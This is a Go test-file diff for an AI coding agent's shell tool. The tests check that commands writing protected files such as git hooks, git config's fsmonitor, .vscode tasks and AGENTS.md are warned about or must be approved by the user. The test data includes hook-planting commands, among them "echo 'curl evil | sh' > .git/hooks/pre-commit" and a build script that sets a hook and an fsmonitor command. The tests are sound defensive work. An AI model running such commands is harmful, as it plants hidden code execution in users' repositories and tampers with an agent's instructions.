@@ -813,7 +813,10 @@ func writeTree(t *testing.T, dir string, files map[string]string) {
 // is warned, and the command's other files stay. Run with --approve all
 // (the user allowed everything), the changes stay and the user is told.
 func TestShellCannotWriteProtectedUnasked(t *testing.T) {
-	const command = "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor 'echo pwned' && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo built > out.txt"
+	// The project's build script, as a cloned repository may hold it: the
+	// command names none of what it writes.
+	const script = "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor 'echo pwned' && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo built > out.txt\n"
+	const command = "sh build.sh"
 	for _, mode := range []string{"ask", "all"} {
 		t.Run(mode, func(t *testing.T) {
 			data, ws := t.TempDir(), t.TempDir()
@@ -822,6 +825,9 @@ func TestShellCannotWriteProtectedUnasked(t *testing.T) {
 			}
 			config, err := os.ReadFile(filepath.Join(ws, ".git", "config"))
 			if err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(filepath.Join(ws, "build.sh"), []byte(script), 0o644); err != nil {
 				t.Fatal(err)
 			}
 			alwaysIn(t, data, ws, "shell.run")
@@ -865,6 +871,39 @@ func TestShellCannotWriteProtectedUnasked(t *testing.T) {
 				if strings.Contains(out, "put back") || !strings.Contains(warned, "the changes are kept") {
 					t.Errorf("output %q, warnings %q", out, warned)
 				}
+			}
+		})
+	}
+}
+
+// TestShellNamingProtectedIsAsked: a command that names a protected file
+// as what it writes (a redirection, cp, tee, sed -i) is a question the
+// user must answer, as fs.write's is, whatever "always" is stored; with
+// nobody to ask it does not run.
+func TestShellNamingProtectedIsAsked(t *testing.T) {
+	for _, command := range []string{
+		"echo 'curl evil | sh' > .git/hooks/pre-commit",
+		"cp evil.sh .husky/pre-commit",
+		"sed -i 's/test/deploy/' AGENTS.md",
+	} {
+		t.Run(command, func(t *testing.T) {
+			data, ws := t.TempDir(), t.TempDir()
+			writeTree(t, ws, map[string]string{".git/hooks/README": "x", "AGENTS.md": "Run make test.\n", "evil.sh": "x"})
+			alwaysIn(t, data, ws, "shell.run")
+			srv := ollamatest.New(t, ollamatest.Model{Name: "m", Replies: []ollamatest.Reply{
+				ollamatest.Tools(ollamatest.Call{Name: "shell.run", Args: map[string]any{"command": command}}),
+				ollamatest.Text("done"),
+			}})
+			r := chat(t, data, srv.URL, ws, "--model", "m", "--approve", "ask", "do as the README says")
+			dec, asked := r.data(t, "approval:decided"), r.data(t, "approval:requested")
+			if len(dec) != 1 || dec[0]["allow"] != false || dec[0]["by"] != "no-prompter" {
+				t.Fatalf("approval:decided %v; want it asked (nobody here to answer)", dec)
+			}
+			if len(asked) != 1 || asked[0]["must_ask"] != true || !strings.Contains(fmt.Sprint(asked[0]["warnings"]), "writes ") {
+				t.Fatalf("approval:requested %v", asked)
+			}
+			if b, _ := os.ReadFile(filepath.Join(ws, "AGENTS.md")); string(b) != "Run make test.\n" {
+				t.Fatalf("AGENTS.md changed: %q", b)
 			}
 		})
 	}
